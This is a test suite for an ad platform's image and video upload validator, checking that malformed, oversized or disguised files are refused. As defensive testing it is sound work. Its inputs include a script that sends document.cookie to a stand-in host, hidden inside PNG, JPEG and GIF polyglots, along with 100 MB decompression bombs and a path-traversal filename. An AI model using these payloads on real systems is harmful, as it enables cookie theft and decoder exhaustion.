import { crc32, deflateSync } from 'node:zlib';
import { gif, jpeg, mp4, mp4Box, mpegPs, mpegTs, png, pngChunk } from '@fairlead/test-data/media/index';
import { mutated, rolling } from '@fairlead/test-data/media/mutate';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { aGroup, mostOfDecoders, storedAssets } from '../../testing/creatives.ts';
import { type Caller, openTestHouse, type TestHouse } from '../../testing/house.ts';

let house: TestHouse;
let creator: Caller;
let group: Awaited<ReturnType<typeof aGroup>>;
beforeAll(async () => {
  house = await openTestHouse({ worker: false, env: { RATE_LIMITS: 'off' } });
  creator = await house.as('creative_team_member');
  group = await aGroup(house, creator, (await house.application((await house.company()).id)).id);
});
afterAll(() => house?.close());

const size = { width: 300, height: 250 };
const half = (file: Buffer): Buffer => file.subarray(0, Math.floor(file.length / 2));
const cat = (...parts: Buffer[]): Buffer => Buffer.concat(parts);
const text = (words: string): Buffer => Buffer.from(words);
const damaged = /^The file is damaged: /;
const kind = 'File must be one of jpeg, png, gif';
const dimensions = 'File dimensions are invalid';
const page = text('<!doctype html><script>fetch("https://x.example/?"+document.cookie)</script>');

/** A PNG whose chunks are right and whose pixels are these bytes. */
const pngOf = (pixels: Buffer, { width, height } = size): Buffer => {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 2, 0, 0, 0], 8);
  const start = Buffer.from([137, 80, 78, 71, 13, 10, 26, 10]);
  return cat(start, pngChunk('IHDR', head), pngChunk('IDAT', pixels), pngChunk('IEND'));
};
/** Every checksum of it right again. */
const mended = (file: Buffer): Buffer => {
  for (
    let at = 8;
    at + 12 <= file.length && at + 12 + file.readUInt32BE(at) <= file.length;
    at += 12 + file.readUInt32BE(at)
  ) {
    const end = at + 8 + file.readUInt32BE(at);
    file.writeUInt32BE(crc32(file.subarray(at + 4, end)), end);
  }
  return file;
};
const widened = (file: Buffer, at: number, width: number): Buffer => {
  const copy = Buffer.from(file);
  copy.writeUInt16BE(width, at);
  return copy;
};
const sizeOfJpeg = (file: Buffer): number => file.indexOf(Buffer.from([0xff, 0xc0])) + 7;

/** Much in few bytes: a hundred megabytes of nothing. */
const flood = deflateSync(Buffer.alloc(100_000_000));
/** A PNG with a further part behind its head. */
const withPart = (file: Buffer, kind: string, content: Buffer): Buffer =>
  cat(file.subarray(0, 33), pngChunk(kind, content), file.subarray(33));
/** A JPEG with a further segment ahead of all others. */
const withSegment = (file: Buffer, marker: number, content: Buffer): Buffer => {
  const head = Buffer.from([0xff, marker, (content.length + 2) >> 8, (content.length + 2) & 255]);
  return cat(file.subarray(0, 2), head, content, file.subarray(2));
};

const banners: [string, Buffer, string | RegExp | null][] = [
  ['a PNG', png(size), null],
  ['a GIF', gif(size), null],
  ['a JPEG', jpeg(size), null],
  ['a PNG of 16 bits', png({ ...size, bitDepth: 16 }), null],
  ['an interlaced PNG', png({ ...size, interlace: true }), null],
  ['a PNG with a palette', png({ ...size, colorType: 3 }), null],
  ['a PNG one can see through', png({ ...size, colorType: 6 }), null],
  ['a grey PNG', png({ ...size, colorType: 0 }), null],
  ['a grey and clear PNG', png({ ...size, colorType: 4 }), null],
  ['an animated PNG', png({ ...size, frames: 3 }), null],
  ['an animated GIF', gif({ ...size, frames: 3 }), null],
  ['a GIF that plays once', gif({ ...size, frames: 2, loop: null }), null],
  ['a GIF with a small frame', gif({ width: 1024, height: 768, box: { x: 5, y: 5, width: 1, height: 1 } }), null],
  ['a grey JPEG', jpeg({ ...size, components: 1 }), null],
  ['a JPEG in CMYK', jpeg({ ...size, components: 4 }), null],
  ['a progressive JPEG', jpeg({ ...size, progressive: true }), null],
  ['a JPEG on its side', jpeg({ width: 250, height: 300, orientation: 6 }), null],
  ['a JPEG upside down', jpeg({ ...size, orientation: 3 }), null],
  ['a PNG that is a page too', png({ ...size, after: page }), null],
  ['a JPEG that is an archive too', jpeg({ ...size, after: text('PK\u0003\u0004') }), null],
  ['500,000 bytes of PNG', png({ ...size, padTo: 500_000 }), null],
  ['500,000 bytes of GIF', gif({ ...size, padTo: 500_000 }), null],
  ['500,000 bytes of JPEG', jpeg({ ...size, padTo: 500_000 }), null],
  ['one byte more of PNG', png({ ...size, padTo: 500_001 }), 'File too large (max 500 kB)'],
  ['one byte more of GIF', gif({ ...size, padTo: 500_001 }), 'File too large (max 500 kB)'],
  ['one byte more of JPEG', jpeg({ ...size, padTo: 500_001 }), 'File too large (max 500 kB)'],
  ['3 MB', Buffer.alloc(3_000_000), 'File too large (max 500 kB)'],
  ['nothing', Buffer.alloc(0), kind],
  ['one byte', text('G'), kind],
  ['words', text('this is no picture'), kind],
  ['a page', page, kind],
  ['a drawing', text('<svg xmlns="http://www.w3.org/2000/svg" width="300" height="250"/>'), kind],
  ['a WebP', Buffer.from('UklGRhwAAABXRUJQVlA4TBAAAAAvAAAAEAcQERGIiP4HAA==', 'base64'), kind],
  ['an AVIF', cat(mp4Box('ftyp', text('avifmif1')), Buffer.alloc(64)), kind],
  ['a TIFF', cat(text('II*\0'), Buffer.alloc(64)), kind],
  ['a bitmap', cat(text('BM'), Buffer.alloc(64)), kind],
  ['an icon', Buffer.from('00000100010010100000', 'hex'), kind],
  ['a document', text('%PDF-1.7'), kind],
  ['a program', Buffer.from('7f454c4602010100', 'hex'), kind],
  ['an archive', cat(text('PK\u0003\u0004'), Buffer.alloc(64)), kind],
  ['a video', mp4(), kind],
  ['a PNG behind a page', cat(page, png(size)), kind],
  ['half a PNG', half(png(size)), damaged],
  ['half an interlaced PNG', half(png({ ...size, interlace: true })), damaged],
  ['half a GIF', half(gif(size)), damaged],
  ['half a JPEG', half(jpeg(size)), damaged],
  ['a PNG without its end', png({ ...size, end: false }), damaged],
  ['a PNG with a wrong checksum', png({ ...size, badCrc: true }), damaged],
  ['a GIF without its last byte', gif(size).subarray(0, -1), damaged],
  ['a JPEG without its last byte', jpeg(size).subarray(0, -1), damaged],
  ['a JPEG without pixels', jpeg({ ...size, scan: false }), damaged],
  ['a GIF with a frame outside', gif({ ...size, box: { x: 299, y: 0, width: 9, height: 9 } }), damaged],
  ['a GIF with a frame of nothing', gif({ ...size, box: { x: 0, y: 0, width: 0, height: 0 } }), damaged],
  ['a PNG of no size', png({ ...size, says: { width: 0, height: 0 } }), damaged],
  ['a PNG whose pixels are noise', pngOf(text('not compressed at all')), damaged],
  ['a PNG with too few pixels', pngOf(deflateSync(Buffer.alloc(1000))), damaged],
  [
    'a PNG of a colour that is none',
    mended(cat(png(size).subarray(0, 25), Buffer.from([5]), png(size).subarray(26))),
    damaged,
  ],
  ['a JPEG in a coding that apps lack', widenedMarker(jpeg(size), 0xc9), damaged],
  ['a flood of pixels in few bytes', png({ width: 6300, height: 6300, colorType: 0 }), dimensions],
  ['a PNG that says it is huge', png({ ...size, says: { width: 65_535, height: 65_535 } }), dimensions],
  ['a JPEG that says it is huge', widened(jpeg(size), sizeOfJpeg(jpeg(size)), 65_535), dimensions],
  ['a GIF of one pixel', gif({ width: 1, height: 1 }), dimensions],
  ['15,000 frames', gif({ width: 1, height: 1, frames: 15_000 }), dimensions],
  [
    '601 frames',
    gif({ width: 320, height: 50, frames: 601, box: { x: 0, y: 0, width: 1, height: 1 }, delay: 1 }),
    /^The animation has 601 frames/,
  ],
  [
    'frames of more pixels than there may be',
    gif({ width: 1024, height: 768, frames: 100, box: { x: 0, y: 0, width: 1, height: 1 }, delay: 1 }),
    /^The animation has 100 frames/,
  ],
  ['a round of two minutes', gif({ ...size, frames: 3, delay: 4000 }), /^One round of the animation takes 120 s/],
  ['a grey PNG of 16 bits', png({ ...size, bitDepth: 16, colorType: 0 }), null],
  ['a PNG of 16 bits one can see through', png({ ...size, bitDepth: 16, colorType: 6 }), null],
  ['a JPEG in a mirror', jpeg({ ...size, orientation: 2 }), null],
  ['a JPEG upside down in a mirror', jpeg({ ...size, orientation: 4 }), null],
  ...[5, 7, 8].map((orientation): (typeof banners)[number] => [
    `a JPEG on its side, turned by ${orientation}`,
    jpeg({ width: 250, height: 300, orientation }),
    null,
  ]),
  [
    'a JPEG whose note on turning is none',
    withSegment(jpeg(size), 0xe1, cat(text('Exif\0\0MM\0*'), Buffer.alloc(8, 255))),
    null,
  ],
  ['a JPEG whose comment is a page', withSegment(jpeg(size), 0xfe, page), null],
  ['a PNG whose comment is a page', withPart(png(size), 'tEXt', cat(text('c\0'), page)), null],
  ['a GIF that is a page too', cat(gif(size), page), null],
  ['a JPEG with another one behind it', cat(jpeg(size), jpeg({ width: 320, height: 50 })), null],
  ['a PNG whose comment unpacks to 100 MB', withPart(png(size), 'zTXt', cat(text('c\0\0'), flood)), null],
  ['a PNG whose colours unpack to 100 MB', withPart(png(size), 'iCCP', cat(text('c\0\0'), flood)), null],
  ['a PNG whose pixels unpack to 100 MB', pngOf(flood), null],
  ['a GIF that is a script', cat(text('GIF89a/*'), page), damaged],
  ['half an animated PNG', half(png({ ...size, frames: 3 })), damaged],
  ['a PNG with two beginnings', withPart(png(size), 'IHDR', png(size).subarray(16, 29)), damaged],
  ['a page in wide letters', Buffer.from('\ufeff<html>', 'utf16le'), kind],
  ['a packed file', Buffer.from('1f8b0800', 'hex'), kind],
  ['a HEIC', cat(mp4Box('ftyp', text('heicmif1')), Buffer.alloc(64)), kind],
  ['a layered picture', cat(text('8BPS'), Buffer.alloc(64)), kind],
  ['a picture of another size', png({ width: 301, height: 250 }), dimensions],
  ['one that is right only unturned', jpeg({ ...size, orientation: 6 }), dimensions],
];

/** A JPEG whose frame is announced as another kind. */
function widenedMarker(file: Buffer, marker: number): Buffer {
  file[file.indexOf(Buffer.from([0xff, 0xc0])) + 1] = marker;
  return file;
}

const verdictOf = (answer: { status: number; body: unknown }): string | null =>
  answer.status === 201 ? null : ((answer.body as { message?: string }).message ?? String(answer.status));

test(`${banners.length} pictures get the right verdict within the memory of the decoder, and those that are refused leave nothing`, async () => {
  let stored = await storedAssets(house);
  for (const [what, content, expected] of banners) {
    const answer = await group.banner(content, what);
    const verdict = verdictOf(answer);
    if (expected instanceof RegExp) expect([what, verdict]).toEqual([what, expect.stringMatching(expected)]);
    else expect([what, verdict]).toEqual([what, expected]);
    const now = await storedAssets(house);
    if (expected !== null) expect([what, now]).toEqual([what, stored]);
    stored = now;
  }
  // The process itself takes some 80 MB
  expect(mostOfDecoders()).toBeLessThan(256);
});

test('what a file is called, and what its sender says it is, decides nothing', async () => {
  const send = (content: Buffer, name: string, type: string) =>
    group.make({ type: 'CreativeBanner', name }, [{ field: 'banner', content, name, type }]);
  expect(verdictOf(await send(gif(size), 'menu.png', 'image/png'))).toBeNull();
  expect(verdictOf(await send(jpeg(size), '../../menu.svg', 'image/svg+xml'))).toBeNull();
  expect(verdictOf(await send(png(size), 'menu.exe', 'text/html'))).toBeNull();
  expect(verdictOf(await send(page, 'menu.png', 'image/png'))).toBe(kind);
  expect(verdictOf(await send(mp4(), 'menu.gif', 'image/gif'))).toBe(kind);
});

const film = { width: 1280, height: 720 };
const videos: [string, Buffer, string | RegExp | null][] = [
  ['a film', mp4(film), null],
  ['one with sound', mp4({ ...film, audio: true }), null],
  ['one with its index at the end', mp4({ ...film, moovAtEnd: true }), null],
  ['one in fragments', mp4({ ...film, fragmented: true }), null],
  ['one upside down', mp4({ ...film, rotation: 180 }), null],
  ['one that stands and is turned', mp4({ width: 720, height: 1280, rotation: 90 }), null],
  ['a program stream', mpegPs(film), null],
  ['one that is turned away', mp4({ ...film, rotation: 90 }), 'Companion must match video dimensions'],
  ['wide pixels', mp4({ sar: [4, 3] }), 'Video dimension is incorrect'],
  ['an odd size', mp4({ width: 1282, height: 720 }), 'Video dimension is incorrect'],
  ['one turned the other way', mp4({ width: 720, height: 1280, rotation: 270 }), null],
  ['one in fragments with sound', mp4({ ...film, fragmented: true, audio: true }), null],
  ['half of one in fragments', half(mp4({ ...film, fragmented: true })), damaged],
  ['one of no length', mp4({ ...film, seconds: 0 }), damaged],
  ['one of eleven minutes', mp4({ ...film, seconds: 660, fps: 1 }), /longer than 10 minutes/],
  ['VP9', mp4({ ...film, codec: 'vp09' }), /coded as vp09/],
  ['MPEG-4 of old', mp4({ ...film, codec: 'mp4v' }), /coded as mp4v/],
  ['AVI', cat(text('RIFF\0\0\0\0AVI '), Buffer.alloc(64)), 'File must be one of mp4, mpeg'],
  ['Flash', cat(text('FLV\u0001'), Buffer.alloc(64)), 'File must be one of mp4, mpeg'],
  ['a page', page, 'File must be one of mp4, mpeg'],
  ['a picture', png(film), 'File must be one of mp4, mpeg'],
  ['a GIF', gif({ width: 64, height: 48 }), 'File must be one of mp4, mpeg'],
  ['nothing', Buffer.alloc(0), 'File must be one of mp4, mpeg'],
  ['QuickTime', mp4({ ...film, brand: 'qt' }), /QuickTime/],
  ['a transport stream', mpegTs(), /transport stream/],
  ['Matroska', Buffer.from('1a45dfa3a3428681', 'hex'), /Matroska/],
  ['HEVC', mp4({ ...film, codec: 'hvc1' }), /coded as hvc1/],
  ['AV1', mp4({ ...film, codec: 'av01' }), /coded as av01/],
  ['an encrypted one', mp4({ ...film, codec: 'encv' }), /encrypted/],
  ['sound alone', mp4({ video: false, audio: true }), /no video/],
  ['half of one', half(mp4({ ...film, moovAtEnd: true })), damaged],
  ['one without its last byte', mp4(film).subarray(0, -1), damaged],
  ['one without its index', cat(mp4(film).subarray(0, 32), mp4Box('mdat', Buffer.alloc(100))), damaged],
  [
    'a thousand empty parts and nothing',
    cat(mp4(film).subarray(0, 32), ...Array.from({ length: 5000 }, () => mp4Box('free'))),
    damaged,
  ],
  ['a count that lies', countThatLies(), damaged],
];

/** An index that says it lists four billion samples. */
function countThatLies(): Buffer {
  const file = mp4(film);
  file.writeUInt32BE(0xffffffff, file.indexOf('stsz') + 12);
  return file;
}

test(`${videos.length} videos get the right verdict, and those that are refused leave nothing`, async () => {
  const companion = { field: 'companion', content: jpeg(film) };
  let stored = await storedAssets(house);
  for (const [what, content, expected] of videos) {
    const fields = { type: 'CreativeVideo', name: what, title: 'Film' };
    const verdict = verdictOf(await group.make(fields, [{ field: 'video', content }, companion]));
    if (expected instanceof RegExp) expect([what, verdict]).toEqual([what, expect.stringMatching(expected)]);
    else expect([what, verdict]).toEqual([what, expected]);
    const now = await storedAssets(house);
    if (expected !== null) expect([what, now]).toEqual([what, stored]);
    stored = now;
  }
});

describe('80 MB', () => {
  const make = (bytes: number) =>
    group.make({ type: 'CreativeVideo', name: 'Large', title: 'Film' }, [
      { field: 'video', content: mp4({ ...film, padTo: bytes }) },
      { field: 'companion', content: jpeg(film) },
    ]);

  test('are taken, and one byte more is not, nor kept', async () => {
    expect(verdictOf(await make(83_886_080))).toBeNull();
    const stored = await storedAssets(house);
    expect(verdictOf(await make(83_886_081))).toBe('File too large (max 80 MB)');
    expect(await storedAssets(house)).toEqual(stored);
  });
});

test('whatever is changed in a good picture, it is taken or refused, and the decoder goes on', async () => {
  const roll = rolling(3);
  const files = [png({ ...size, frames: 2 }), gif({ ...size, frames: 2 }), jpeg(size)];
  for (let round = 0; round < 45; round += 1) {
    const file = mutated(files[round % files.length] as Buffer, 3, roll);
    const { status } = await group.banner(round % 3 === 0 ? mended(file) : file);
    expect([round, [201, 400].includes(status)]).toEqual([round, true]);
  }
  expect((await group.banner(png(size))).status).toBe(201);
});
